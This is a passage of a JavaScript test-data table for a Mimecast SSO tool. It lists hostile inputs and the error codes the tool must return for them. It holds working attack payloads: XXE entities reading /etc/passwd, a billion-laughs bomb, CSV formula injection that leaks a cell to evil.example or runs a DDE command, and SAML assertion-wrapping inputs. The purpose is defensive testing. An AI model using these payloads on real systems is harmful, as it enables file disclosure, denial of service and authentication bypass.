// The hostile-input table as data: one row per broken or hostile input, where it is given and
// the stable code it must be answered with. tests/e2e/hostile.test.mjs runs every row and writes
// tests/hostile/TABLE.md.
//
// A row: `{ id, where, via, input, make, expect }` (`expect`: a code, or a list of codes any of
// which will do), and optionally:
// - `status` (api: the HTTP status, or a list beside `expect`'s) or `exit` (cli: the exit code)
//   the answer must have;
// - `observe(answer)`: the code of a successful answer, when the first error finding's is not it;
// - `secret(fx)`: base64 that must appear nowhere in what the input made visible;
// - `check(result, fx)`: more to verify, returns what is wrong (or nothing);
// - `inFlux`: what another change in progress makes of this row, and `known`: a bug found and
//   reported, not fixed yet; such a row's result is recorded in the table, not asserted;
// - `note`: what the table should say about the row.
//
// `where`: page (Chromium, the hosted page), wasm (www/pkg/mimecast_sso_web.js in Node), api
// (the Worker under wrangler dev), cli (target/debug/mimecast-sso). `via`: how it is given there
// (page: paste, drop, metadata, csv, report, saml; wasm: the function called; api: the route;
// cli: the command). `make(fx)` builds the input from the fixtures (tests/hostile/fixtures.mjs).
import { metadataDocument } from '../e2e/support/entra.mjs';
import { IDENTIFIER, ISSUER, REPLY_URL, TENANT } from '../e2e/support/saml.mjs';
import { utf16be, utf16le, utf8Bom } from './fixtures.mjs';

const MIB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Inputs

/** Billion laughs: nine levels of ten entity references (10^9 "lol"s if expanded). */
function billionLaughs(root) {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i += 1) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n${entities.join('\n')}\n]>\n<${root}>&lol9;</${root}>`;
}

/** An external entity naming /etc/passwd, used in an attribute and in text. */
const xxe = (root, namespace) => '<?xml version="1.0"?>\n'
  + `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n`
  + `<${root} xmlns="${namespace}" entityID="&xxe;">&xxe;</${root}>`;

/** `depth` nested elements. */
const nested = (depth) => '<a>'.repeat(depth) + '</a>'.repeat(depth);

/** Entra's federation metadata for the fixture tenant, with `bodies` as its certificates. */
const metadata = (bodies) => metadataDocument(TENANT, bodies);

/** The certificate's PEM with a NUL byte inside its base64. */
const withNul = (pem) => pem.replace('\nMII', '\nM\u0000II');

/**
 * A users' file whose cells start like spreadsheet formulas (OWASP's CSV injection: `=`, `+`,
 * `-`, `@`, a tab): in the addresses (those invalid are reported as written) and in the names.
 * `prefix` keeps each place's addresses apart in the simulator.
 */
function formulaCsv(prefix) {
  return [
    'email,name',
    `"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")@example.com",Ann`,
    `${prefix}ann@example.com,"=HYPERLINK(""http://evil.example"",""x"")"`,
    `+${prefix}cmd@example.com,+cmd|' /C calc'!A0`,
    `-${prefix}bob@example.com,-2+3`,
    `@${prefix}carl@example.com,@SUM(1+1)`,
    `${prefix}dan@example.com,"\t=1+1"`,
  ].join('\r\n');
}

/** What a spreadsheet runs as a formula: a cell starting with `=`, `+`, `-`, `@`, tab or CR. */
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a comma-separated text (quoted cells may hold commas, quotes and line breaks). */
function csvCells(text) {
  const cells = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const end = () => {
    cells.push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i];
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      end();
    } else if (!quoted && c === '\r' && body[i + 1] === '\n') {
      end();
      i += 1;
    } else {
      cell += c;
    }
  }
  if (cell) end();
  return cells;
}

/** What is wrong with a report: a cell a spreadsheet would run, or no formula-like input at all. */
function reportProblem(text) {
  if (typeof text !== 'string' || !text.startsWith('\uFEFFline,')) return `not a report: ${String(text).slice(0, 80)}`;
  const live = csvCells(text).filter((cell) => FORMULA.test(cell));
  if (live.length > 0) return `cells a spreadsheet would run: ${live.map((c) => JSON.stringify(c)).join(', ')}`;
  if (!/'=HYPERLINK/.test(text)) return 'the =HYPERLINK address is not in the report, quoted';
  return undefined;
}

/** The plan values a SAML response is compared with (the fixtures' signer as the certificate). */
const expected = (fx) => ({ identifier: IDENTIFIER, replyUrl: REPLY_URL, issuer: ISSUER, certificate: fx.saml.signer.body });

/** The response with a second copy of its assertion (same ID) whose NameID says mallory. */
function duplicateIds(fx) {
  const xml = fx.saml.response;
  const assertion = xml.slice(xml.indexOf('<Assertion'), xml.indexOf('</Assertion>') + '</Assertion>'.length);
  return xml.replace('</samlp:Response>', `${assertion.replaceAll('alice@contoso.example', 'mallory@contoso.example')}</samlp:Response>`);
}

/** The response with a DOCTYPE declaring an external entity, used in the NameID. */
const samlXxe = (fx) => fx.saml.response
  .replace('<samlp:Response', '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><samlp:Response')
  .replace('>alice@contoso.example</NameID>', '>&xxe;</NameID>');

/** Up to the node limit: 25,000 empty elements in the signed assertion, 250 KB, under 256 KiB. */
const manyElements = (fx) => fx.saml.response.replace('<Subject>', `<Subject>${'<a b="c"/>'.repeat(25_000)}`);

const json = (value) => JSON.stringify(value);
const post = (path, body, type = 'application/json', headers = {}) => ({
  method: 'POST', path, headers: { 'content-type': type, ...headers }, body,
});

/** An HTTP/1.1 request written by hand (`host` is the Worker's host:port). */
const raw = (head, body = '') => (host) => `${head.replace('{host}', host)}\r\n${body ? `content-length: ${Buffer.byteLength(body)}\r\n` : ''}connection: close\r\n\r\n${body}`;

// ---------------------------------------------------------------------------------------------
// The rows

const certificateRows = [
  // Secrets: refused, cleared, never echoed.
  { id: 'page-paste-pkcs8', where: 'page', via: 'paste', input: 'PKCS#8 private key (openssl genpkey), pasted', make: (fx) => fx.keys.pkcs8.text, expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs8.secret },
  { id: 'page-paste-pkcs1', where: 'page', via: 'paste', input: 'PKCS#1 `RSA PRIVATE KEY`, pasted', make: (fx) => fx.keys.pkcs1.text, expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs1.secret },
  { id: 'page-paste-encrypted', where: 'page', via: 'paste', input: 'encrypted PKCS#8 key (AES-256), pasted', make: (fx) => fx.keys.encrypted.text, expect: 'cert.private_key', secret: (fx) => fx.keys.encrypted.secret },
  { id: 'page-paste-ec', where: 'page', via: 'paste', input: 'EC P-256 key (SEC1 `EC PRIVATE KEY`), pasted', make: (fx) => fx.keys.ec.text, expect: 'cert.private_key', secret: (fx) => fx.keys.ec.secret },
  { id: 'page-paste-openssh', where: 'page', via: 'paste', input: 'OpenSSH private key (ssh-keygen ed25519), pasted', make: (fx) => fx.keys.openssh.text, expect: 'cert.private_key', secret: (fx) => fx.keys.openssh.secret },
  { id: 'page-paste-cert-and-key', where: 'page', via: 'paste', input: 'the certificate followed by its private key (a .pem bundle)', make: (fx) => `${fx.certificate.pem}${fx.keys.pkcs8.text}`, expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs8.secret },
  { id: 'page-drop-pfx', where: 'page', via: 'drop', input: 'PKCS#12 `.pfx` (key + certificate), dropped', make: (fx) => ({ name: 'entra.pfx', bytes: fx.keys.pfx.bytes }), expect: 'cert.pkcs12', secret: (fx) => fx.keys.pfx.secret },
  { id: 'page-drop-pkcs1-der', where: 'page', via: 'drop', input: 'PKCS#1 private key as DER `.key`, dropped', make: (fx) => ({ name: 'entra.key', bytes: fx.keys.pkcs1Der.bytes }), expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs1Der.secret },
  { id: 'wasm-pkcs8-der', where: 'wasm', via: 'inspectCertificate', input: 'PKCS#8 key as DER bytes (Uint8Array)', make: (fx) => [Buffer.from(fx.keys.pkcs8.secret, 'base64')], expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs8.secret },
  { id: 'wasm-pfx-base64', where: 'wasm', via: 'normalizeCertificate', input: '`.pfx` as base64 text (`base64 -w 64`)', make: (fx) => [fx.keys.pfxBase64.text], expect: 'cert.pkcs12', secret: (fx) => fx.keys.pfx.secret },
  { id: 'wasm-plan-openssh', where: 'wasm', via: 'buildPlan', input: 'buildPlan with an OpenSSH key as `certificate`', make: (fx) => [{ certificate: fx.keys.openssh.text }], expect: 'ok', observe: (plan) => (plan.findings.some((f) => f.code === 'cert.private_key') ? 'ok' : 'no cert.private_key finding'), secret: (fx) => fx.keys.openssh.secret },
  { id: 'api-cert-pkcs1', where: 'api', via: 'POST /api/v1/certificate/inspect', input: 'PKCS#1 key as text/plain', make: (fx) => post('/api/v1/certificate/inspect', fx.keys.pkcs1.text, 'text/plain'), expect: 'cert.private_key', status: 400, secret: (fx) => fx.keys.pkcs1.secret },
  { id: 'api-cert-pfx', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '`.pfx` as application/octet-stream', make: (fx) => post('/api/v1/certificate/inspect', fx.keys.pfx.bytes, 'application/octet-stream'), expect: 'cert.pkcs12', status: 400, secret: (fx) => fx.keys.pfx.secret },
  { id: 'api-cert-json-ec', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '`{"certificate": <EC key>}`', make: (fx) => post('/api/v1/certificate/inspect', json({ certificate: fx.keys.ec.text })), expect: 'cert.private_key', status: 400, secret: (fx) => fx.keys.ec.secret },
  { id: 'api-plan-encrypted', where: 'api', via: 'POST /api/v1/plan', input: 'plan with an encrypted PKCS#8 key as `certificate`', make: (fx) => post('/api/v1/plan', json({ region: 'eu', certificate: fx.keys.encrypted.text })), expect: 'ok', status: 200, observe: (plan) => (plan.findings?.some((f) => f.code === 'cert.private_key') ? 'ok' : 'no cert.private_key finding'), secret: (fx) => fx.keys.encrypted.secret },
  { id: 'cli-cert-pkcs8', where: 'cli', via: 'cert inspect', input: 'PKCS#8 key file', make: (fx) => ({ args: ['cert', 'inspect', '{entra.key}'], files: { 'entra.key': fx.keys.pkcs8.text } }), expect: 'cert.private_key', exit: 1, secret: (fx) => fx.keys.pkcs8.secret },
  { id: 'cli-cert-pfx', where: 'cli', via: 'cert inspect', input: '`.pfx` file', make: (fx) => ({ args: ['cert', 'inspect', '{entra.pfx}'], files: { 'entra.pfx': fx.keys.pfx.bytes } }), expect: 'cert.pkcs12', exit: 1, secret: (fx) => fx.keys.pfx.secret },
  { id: 'cli-cert-openssh-stdin', where: 'cli', via: 'cert inspect', input: 'OpenSSH key on standard input', make: (fx) => ({ args: ['cert', 'inspect', '-'], stdin: fx.keys.openssh.text }), expect: 'cert.private_key', exit: 1, secret: (fx) => fx.keys.openssh.secret },
  { id: 'cli-plan-ec', where: 'cli', via: 'plan', input: '`plan --certificate` with an EC key file', make: (fx) => ({ args: ['plan', '--region', 'eu', '--account-code', 'CUK1A234', '--tenant-id', TENANT, '--certificate', '{key.pem}'], files: { 'key.pem': fx.keys.ec.text } }), expect: 'cert.private_key', exit: 1, secret: (fx) => fx.keys.ec.secret },

  // Not certificates, or not what Mimecast takes.
  { id: 'page-paste-csr', where: 'page', via: 'paste', input: 'certificate signing request (CSR)', make: (fx) => fx.csr, expect: 'cert.csr' },
  { id: 'page-paste-public-key', where: 'page', via: 'paste', input: 'public key alone (`PUBLIC KEY`)', make: (fx) => fx.publicKey, expect: 'cert.public_key' },
  { id: 'wasm-rsa-public-key', where: 'wasm', via: 'inspectCertificate', input: '`RSA PUBLIC KEY` (PKCS#1)', make: (fx) => [fx.rsaPublicKey], expect: 'cert.public_key' },
  { id: 'wasm-empty-p7b', where: 'wasm', via: 'inspectCertificate', input: '`.p7b` holding no certificate', make: (fx) => [fx.certificate.emptyPkcs7], expect: 'cert.pkcs7_empty' },

  // Copied with what surrounds it.
  { id: 'page-paste-ds-element', where: 'page', via: 'paste', input: 'copied from metadata with its `<ds:X509Certificate>` element', make: (fx) => `<ds:X509Certificate>${fx.certificate.body}</ds:X509Certificate>`, expect: 'ok' },
  { id: 'cli-cert-element', where: 'cli', via: 'cert inspect', input: '`<X509Certificate>…</X509Certificate>` file', make: (fx) => ({ args: ['cert', 'inspect', '{cert.xml}'], files: { 'cert.xml': `  <X509Certificate>${fx.certificate.body}</X509Certificate>\n` } }), expect: 'ok', exit: 0 },
  { id: 'page-paste-entities', where: 'page', via: 'paste', input: 'PEM with `&#13;` entities, CRLF, BOM, 76 columns (XML on Windows)', make: (fx) => fx.certificate.withEntities.toString('utf8'), expect: 'ok' },
  { id: 'api-cert-element-entities', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '`<X509Certificate>` element with `&#13;` line ends', make: (fx) => post('/api/v1/certificate/inspect', `<X509Certificate>${fx.certificate.body.replace(/.{64}/g, '$&&#13;\n')}</X509Certificate>`, 'text/plain'), expect: 'ok', status: 200 },

  // Every wrong encoding.
  { id: 'page-drop-utf16le-bom', where: 'page', via: 'drop', input: 'PEM saved as UTF-16 LE with BOM (PowerShell 5.1 `Out-File`)', make: (fx) => ({ name: 'entra.cer', bytes: utf16le(fx.certificate.pem) }), expect: 'cert.unrecognized' },
  { id: 'wasm-utf16le', where: 'wasm', via: 'inspectCertificate', input: 'PEM as UTF-16 LE without BOM', make: (fx) => [utf16le(fx.certificate.pem, false)], expect: 'cert.unrecognized' },
  { id: 'wasm-utf16be-bom', where: 'wasm', via: 'inspectCertificate', input: 'PEM as UTF-16 BE with BOM', make: (fx) => [utf16be(fx.certificate.pem)], expect: 'cert.unrecognized' },
  { id: 'cli-cert-utf16be', where: 'cli', via: 'cert inspect', input: 'base64 body as UTF-16 BE without BOM', make: (fx) => ({ args: ['cert', 'inspect', '{entra.txt}'], files: { 'entra.txt': utf16be(fx.certificate.body, false) } }), expect: 'cert.unrecognized', exit: 1 },
  { id: 'page-drop-utf8-bom', where: 'page', via: 'drop', input: 'PEM with a UTF-8 BOM, dropped', make: (fx) => ({ name: 'entra.cer', bytes: utf8Bom(fx.certificate.pem) }), expect: 'ok' },
  { id: 'wasm-latin1', where: 'wasm', via: 'inspectCertificate', input: 'Latin-1 text around the body (`Zertifikat für …`)', make: (fx) => [Buffer.from(`Zertifikat für Mimecast: ${fx.certificate.body}`, 'latin1')], expect: 'cert.unrecognized' },
  { id: 'wasm-lone-surrogate', where: 'wasm', via: 'inspectCertificate', input: 'a lone surrogate (`\\ud800`) before the body', make: (fx) => [`\ud800${fx.certificate.body}`], expect: 'cert.unrecognized' },
  { id: 'api-cert-json-surrogate', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '`{"certificate": "\\ud800"}` (lone surrogate in JSON)', make: () => post('/api/v1/certificate/inspect', '{"certificate":"\\ud800"}'), expect: 'request.invalid_json', status: 400 },

  // Damaged, NUL bytes, oversized.
  { id: 'page-paste-truncated', where: 'page', via: 'paste', input: 'PEM cut off before its END line', make: (fx) => fx.certificate.pem.slice(0, 700), expect: 'cert.invalid_pem' },
  { id: 'page-paste-nul', where: 'page', via: 'paste', input: 'PEM with a NUL byte in its base64', make: (fx) => withNul(fx.certificate.pem), expect: 'cert.invalid_base64' },
  { id: 'wasm-truncated-der', where: 'wasm', via: 'inspectCertificate', input: 'DER certificate cut in half', make: (fx) => [fx.certificate.der.subarray(0, 400)], expect: 'cert.invalid_der' },
  { id: 'page-drop-2mib', where: 'page', via: 'drop', input: '2 MiB file dropped', make: () => ({ name: 'huge.cer', bytes: Buffer.alloc(2 * MIB, 'A') }), expect: 'cert.too_large' },
  { id: 'wasm-1mib-junk', where: 'wasm', via: 'inspectCertificate', input: '1 MiB of base64-alphabet junk (the largest input read)', make: () => ['x'.repeat(MIB)], expect: 'cert.unrecognized' },
  { id: 'wasm-1mib-body', where: 'wasm', via: 'inspectCertificate', input: '1 MiB body starting `MII` (decoded, then refused)', make: () => [`MII${'A'.repeat(MIB - 3)}`], expect: 'cert.invalid_der' },
  { id: 'api-cert-2mib', where: 'api', via: 'POST /api/v1/certificate/inspect', input: '2 MiB body', make: () => post('/api/v1/certificate/inspect', Buffer.alloc(2 * MIB, 'A'), 'text/plain'), expect: 'request.too_large', status: 413 },
  { id: 'cli-cert-2mib', where: 'cli', via: 'cert inspect', input: '2 MiB file', make: () => ({ args: ['cert', 'inspect', '{huge.cer}'], files: { 'huge.cer': Buffer.alloc(2 * MIB, 'A') } }), expect: 'cert.too_large', exit: 1 },
  { id: 'cli-cert-garbage', where: 'cli', via: 'cert inspect', input: 'random bytes (crates/core/tests/data/garbage.bin)', make: (fx) => ({ args: ['cert', 'inspect', '{garbage.bin}'], files: { 'garbage.bin': fx.garbage } }), expect: 'cert.unrecognized', exit: 1 },
];

const metadataRows = [
  { id: 'page-metadata-laughs', where: 'page', via: 'metadata', input: 'billion laughs (nine levels of entities)', make: () => ({ name: 'laughs.xml', bytes: billionLaughs('EntityDescriptor') }), expect: 'metadata.doctype' },
  { id: 'page-metadata-xxe', where: 'page', via: 'metadata', input: 'external entity `file:///etc/passwd`', make: () => ({ name: 'xxe.xml', bytes: xxe('EntityDescriptor', 'urn:oasis:names:tc:SAML:2.0:metadata') }), expect: 'metadata.doctype', check: (r) => (r.texts.some((t) => t.includes('root:x:0')) ? '/etc/passwd shown' : undefined) },
  { id: 'page-metadata-deep', where: 'page', via: 'metadata', input: '10,000 nested elements', make: () => ({ name: 'deep.xml', bytes: nested(10_000) }), expect: 'metadata.too_deep' },
  { id: 'page-metadata-utf16', where: 'page', via: 'metadata', input: 'metadata saved as UTF-16 LE with BOM', make: (fx) => ({ name: 'utf16.xml', bytes: utf16le(metadata([fx.certificate.body])) }), expect: 'metadata.invalid_xml' },
  { id: 'page-metadata-truncated', where: 'page', via: 'metadata', input: 'metadata cut in the middle', make: (fx) => ({ name: 'cut.xml', bytes: metadata([fx.certificate.body]).slice(0, 1500) }), expect: 'metadata.invalid_xml' },
  { id: 'page-metadata-key', where: 'page', via: 'metadata', input: 'metadata whose `X509Certificate` holds a private key', make: (fx) => ({ name: 'key.xml', bytes: metadata([fx.keys.pkcs8.secret]) }), expect: 'cert.private_key', secret: (fx) => fx.keys.pkcs8.secret },
  { id: 'wasm-metadata-utf16be', where: 'wasm', via: 'parseFederationMetadata', input: 'metadata as UTF-16 BE without BOM', make: (fx) => [utf16be(metadata([fx.certificate.body]), false)], expect: 'metadata.invalid_xml' },
  { id: 'wasm-metadata-nul', where: 'wasm', via: 'parseFederationMetadata', input: 'metadata with a NUL byte in an attribute', make: (fx) => [metadata([fx.certificate.body]).replace('entityID="', 'entityID="\u0000')], expect: 'metadata.invalid_xml' },
  { id: 'wasm-metadata-oversized', where: 'wasm', via: 'parseFederationMetadata', input: 'metadata padded to 1 MiB + 1 byte', make: (fx) => [metadata([fx.certificate.body]).padEnd(MIB + 1, ' ')], expect: 'metadata.too_large' },
  { id: 'cli-plan-metadata-laughs', where: 'cli', via: 'plan', input: '`plan --metadata` billion laughs', make: () => ({ args: ['plan', '--region', 'eu', '--account-code', 'CUK1A234', '--metadata', '{laughs.xml}'], files: { 'laughs.xml': billionLaughs('EntityDescriptor') } }), expect: 'metadata.doctype' },
  { id: 'api-plan-metadata-xxe', where: 'api', via: 'POST /api/v1/plan', input: 'plan with XXE `federationMetadata`', make: () => post('/api/v1/plan', json({ region: 'eu', federationMetadata: xxe('EntityDescriptor', 'urn:oasis:names:tc:SAML:2.0:metadata') })), expect: 'metadata.doctype', status: 200, check: (r) => (r.texts[0].includes('root:x:0') ? '/etc/passwd in the answer' : undefined) },
];

const csvRows = [
  { id: 'page-csv-formulas', where: 'page', via: 'csv', input: 'names and addresses starting `=HYPERLINK(`, `+cmd|`, `-`, `@`, tab', make: () => ({ name: 'users.csv', bytes: formulaCsv('page-') }), expect: 'user.email_invalid', check: (r) => (r.shown?.codes?.join() === '2:user.email_invalid,6:user.email_invalid' ? undefined : `lines refused: ${r.shown?.codes?.join()}`) },
  { id: 'page-report-formulas', where: 'page', via: 'report', input: 'the same file run, report downloaded: formula cells quoted', make: () => ({ name: 'users.csv', bytes: formulaCsv('page-') }), expect: 'ok', check: (r) => reportProblem(r.report) },
  { id: 'wasm-report-formulas', where: 'wasm', via: 'usersReportCsv', input: '`usersReportCsv` of outcomes whose address, code and message start `=`, `+`, `-`, `@`, tab, CR', make: () => [[
    { line: 2, emailAddress: '=HYPERLINK("http://evil.example")@example.com', outcome: 'invalid', code: 'user.email_invalid', message: '+cmd' },
    { line: 3, emailAddress: '-bob@example.com', outcome: 'created', code: '=1+1', message: '@SUM(1)' },
    { line: 4, emailAddress: '\t=1@example.com', outcome: 'failed', message: '\r=2' },
  ]], expect: 'ok', check: (r) => reportProblem(r.value) },
  { id: 'cli-report-formulas', where: 'cli', via: 'users create', input: 'the formula file through `users create`; its `--report`', make: (fx) => ({ args: ['users', 'create', '--worker', fx.workerUrl, '--csv', '{users.csv}', '--report', '{report.csv}', '--no-list-existing', '--json'], files: { 'users.csv': formulaCsv('cli-') } }), expect: 'ok', exit: 0, observe: (json, run) => (run.code === 0 ? 'ok' : `exit ${run.code}`), check: (r) => reportProblem(r.report) },
  { id: 'page-csv-cr-only', where: 'page', via: 'csv', input: 'CR-only line ends (Excel for Mac before 2016)', make: () => ({ name: 'mac.csv', bytes: 'email,name\rann@example.com,Ann\rbob\rcarl@example.com,Carl\r' }), expect: 'user.domain_missing' },
  { id: 'wasm-csv-cr-only', where: 'wasm', via: 'readUsersCsv', input: 'CR-only line ends, an address without domain on line 3', make: () => ['email,name\rann@example.com,Ann\rbob\rcarl@example.com,Carl\r'], expect: 'user.domain_missing' },
  { id: 'wasm-csv-mixed', where: 'wasm', via: 'readUsersCsv', input: 'CRLF, LF and CR mixed, an address without domain on line 4', make: () => ['email,name\r\nann@example.com,Ann\nbob@example.com,Bob\rcarl\r\ndan@example.com,Dan'], expect: 'user.domain_missing' },
  { id: 'page-csv-utf16', where: 'page', via: 'csv', input: 'Excel "Unicode text" (UTF-16 LE with BOM)', make: () => ({ name: 'unicode.csv', bytes: utf16le('email,name\r\nann@example.com,Ann\r\n') }), expect: 'provisioning.csv_not_utf8' },
  { id: 'page-csv-latin1', where: 'page', via: 'csv', input: 'Windows-1252 (`José Müller`)', make: () => ({ name: 'ansi.csv', bytes: Buffer.from('email,name\r\nann@example.com,José Müller\r\n', 'latin1') }), expect: 'provisioning.csv_not_utf8' },
  { id: 'wasm-csv-utf16be', where: 'wasm', via: 'readUsersCsv', input: 'UTF-16 BE without BOM', make: () => [utf16be('email,name\nann@example.com,Ann\n', false)], expect: 'provisioning.csv_not_utf8' },
  { id: 'page-csv-nul', where: 'page', via: 'csv', input: 'a NUL byte inside a name', make: () => ({ name: 'nul.csv', bytes: 'email,name\nann@example.com,Ann\u0000Lee\n' }), expect: 'user.name_invalid' },
  { id: 'page-csv-3mib', where: 'page', via: 'csv', input: '3 MiB file (over the 2 MiB limit)', make: () => ({ name: 'huge.csv', bytes: Buffer.alloc(3 * MIB, 'a@example.com,A\n') }), expect: 'provisioning.csv_too_large' },
  { id: 'wasm-csv-10001-rows', where: 'wasm', via: 'readUsersCsv', input: '10,001 users (one over the limit), 250 KB', make: () => [`email,name\n${Array.from({ length: 10_001 }, (_, i) => `u${i}@example.com,U ${i}`).join('\n')}`], expect: 'provisioning.csv_too_many_rows', },
  { id: 'wasm-csv-header-only-bom', where: 'wasm', via: 'readUsersCsv', input: 'UTF-8 BOM and a quoted header, no rows', make: () => [utf8Bom('"email","name"\r\n')], expect: 'ok', check: (r) => (r.value?.records === 0 ? undefined : `records ${r.value?.records}`) },
  { id: 'cli-users-utf16', where: 'cli', via: 'users create', input: 'UTF-16 CSV file', make: (fx) => ({ args: ['users', 'create', '--worker', fx.workerUrl, '--csv', '{users.csv}'], files: { 'users.csv': utf16le('email,name\r\nann@example.com,Ann\r\n') } }), expect: 'provisioning.csv_not_utf8', exit: 4 },
  { id: 'cli-users-empty', where: 'cli', via: 'users create', input: 'empty CSV file', make: (fx) => ({ args: ['users', 'create', '--worker', fx.workerUrl, '--csv', '{users.csv}'], files: { 'users.csv': '' } }), expect: 'provisioning.csv_empty', exit: 4 },
];

const samlRows = [
  { id: 'page-saml-xxe', where: 'page', via: 'saml', input: 'response with a DOCTYPE and an external entity in the NameID', make: samlXxe, expect: 'saml.doctype', check: (r) => (r.texts.some((t) => t.includes('root:x:0')) ? '/etc/passwd shown' : undefined) },
  { id: 'page-saml-duplicate-ids', where: 'page', via: 'saml', input: 'the signed assertion copied with the same ID, NameID mallory', make: duplicateIds, expect: 'saml.duplicate_id' },
  { id: 'page-saml-huge-base64', where: 'page', via: 'saml', input: '600 KB base64 blob', make: () => 'PHNhbWxwOlJlc3BvbnNl'.repeat(30_720), expect: 'saml.too_large' },
  { id: 'page-saml-laughs-base64', where: 'page', via: 'saml', input: 'billion laughs, base64 as captured', make: () => Buffer.from(billionLaughs('samlp:Response')).toString('base64'), expect: 'saml.doctype' },
  { id: 'page-saml-comment-nameid', where: 'page', via: 'saml', input: 'NameID split by a comment after signing (`alice@contoso.example<!---->.evil.example`)', make: (fx) => fx.saml.commented, expect: 'ok', check: (r, fx) => (r.shown?.facts?.includes(fx.saml.lookalike) ? undefined : `NameID shown is not ${fx.saml.lookalike}: ${r.shown?.facts?.slice(0, 120)}`) },
  { id: 'wasm-saml-comment-nameid', where: 'wasm', via: 'inspectSamlResponse', input: 'the comment-split NameID: the whole NameID is read', make: (fx) => [fx.saml.commented, expected(fx)], expect: 'ok', check: (r, fx) => (r.value?.assertion?.nameId === fx.saml.lookalike && r.value?.verified ? undefined : `nameId ${r.value?.assertion?.nameId}, verified ${r.value?.verified}`) },
  { id: 'wasm-saml-deep', where: 'wasm', via: 'inspectSamlResponse', input: '10,000 nested elements', make: () => [nested(10_000)], expect: 'saml.too_deep' },
  { id: 'wasm-saml-utf16', where: 'wasm', via: 'inspectSamlResponse', input: 'the response encoded as UTF-16 LE, then base64', make: (fx) => [Buffer.from(fx.saml.response, 'utf16le').toString('base64'), expected(fx)], expect: 'saml.invalid_xml' },
  { id: 'wasm-saml-utf8-bom', where: 'wasm', via: 'inspectSamlResponse', input: 'base64 of the response with a UTF-8 BOM in front', make: (fx) => [utf8Bom(fx.saml.response).toString('base64'), expected(fx)], expect: 'ok', check: (r) => (r.value?.verified ? undefined : 'not verified') },
  { id: 'api-saml-utf16-bom', where: 'api', via: 'POST /api/v1/saml/inspect', input: 'base64 of the response in UTF-16 LE with BOM', make: (fx) => post('/api/v1/saml/inspect', json({ samlResponse: utf16le(fx.saml.response).toString('base64'), expected: expected(fx) })), expect: 'saml.invalid_xml', status: 400 },
  { id: 'wasm-saml-nul', where: 'wasm', via: 'inspectSamlResponse', input: 'a NUL character inside the XML', make: (fx) => [fx.saml.response.replace('<Subject>', '<Subject>\u0000'), expected(fx)], expect: 'saml.invalid_xml' },
  { id: 'wasm-saml-truncated', where: 'wasm', via: 'inspectSamlResponse', input: 'the response cut in half', make: (fx) => [fx.saml.response.slice(0, fx.saml.response.length / 2), expected(fx)], expect: 'saml.invalid_xml' },
  { id: 'wasm-saml-25k-elements', where: 'wasm', via: 'inspectSamlResponse', input: '25,000 empty elements in the signed assertion (250 KB, under every limit)', make: (fx) => [manyElements(fx), expected(fx)], expect: 'saml.digest_mismatch' },
  { id: 'api-saml-xxe', where: 'api', via: 'POST /api/v1/saml/inspect', input: 'XXE response', make: (fx) => post('/api/v1/saml/inspect', json({ samlResponse: samlXxe(fx) })), expect: 'saml.doctype', status: 400, check: (r) => (r.texts[0].includes('root:x:0') ? '/etc/passwd in the answer' : undefined) },
  { id: 'api-saml-duplicate-ids', where: 'api', via: 'POST /api/v1/saml/inspect', input: 'duplicate IDs (wrapping attempt)', make: (fx) => post('/api/v1/saml/inspect', json({ samlResponse: duplicateIds(fx), expected: expected(fx) })), expect: 'saml.duplicate_id', status: 400 },
  { id: 'api-saml-600kb', where: 'api', via: 'POST /api/v1/saml/inspect', input: '600 KB base64 `samlResponse`', make: () => post('/api/v1/saml/inspect', json({ samlResponse: 'A'.repeat(600 * 1024) })), expect: 'saml.too_large', status: 413 },
  { id: 'api-saml-duplicate-keys', where: 'api', via: 'POST /api/v1/saml/inspect', input: '`samlResponse` twice in the JSON', make: (fx) => post('/api/v1/saml/inspect', `{"samlResponse":${json(fx.saml.response)},"samlResponse":"x"}`), expect: 'request.invalid_json', status: 400 },
  { id: 'cli-saml-laughs', where: 'cli', via: 'saml inspect', input: 'billion laughs file', make: () => ({ args: ['saml', 'inspect', '{response.xml}'], files: { 'response.xml': billionLaughs('samlp:Response') } }), expect: 'saml.doctype', exit: 1 },
  { id: 'cli-saml-utf16-file', where: 'cli', via: 'saml inspect', input: 'the response saved as UTF-16 LE with BOM (Notepad "Unicode")', make: (fx) => ({ args: ['saml', 'inspect', '{response.xml}'], files: { 'response.xml': utf16le(fx.saml.response) } }), expect: 'ok', exit: 0, note: 'the CLI reads a file by its byte order mark, so it is read as its UTF-8 twin (the page and the API, given text, refuse UTF-16 as saml.invalid_xml)' },
  { id: 'cli-saml-huge', where: 'cli', via: 'saml inspect', input: '2 MiB of base64 in a file', make: () => ({ args: ['saml', 'inspect', '{response.txt}'], files: { 'response.txt': 'A'.repeat(2 * MIB) } }), expect: 'saml.too_large', exit: 1 },
];

const explainRows = [
  { id: 'wasm-explain-1mb', where: 'wasm', via: 'explainEntraError', input: 'AADSTS50011 followed by 1 MB of text', make: () => [`AADSTS50011: ${'x'.repeat(1_000_000)}`], expect: 'entra_error.too_large' },
  { id: 'wasm-explain-nul-surrogates', where: 'wasm', via: 'explainEntraError', input: 'the code between NUL bytes and lone surrogates', make: () => ['\u0000\ud800AADSTS50011\udfff\u0000'], expect: 'entra_error.aadsts50011' },
